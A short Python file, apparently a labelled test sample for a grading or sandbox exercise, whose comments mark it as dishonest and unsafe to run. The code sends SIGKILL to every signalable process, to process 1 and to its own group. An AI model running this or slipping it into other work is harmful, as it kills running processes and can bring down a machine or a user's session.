# tries: kills every process of the machine that it may signal, its own group, and process 1
# in: E1
# honest: 0
# stock: no (it would end the instructor's session)
import os
import signal

for target in (-1, 1, 0):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
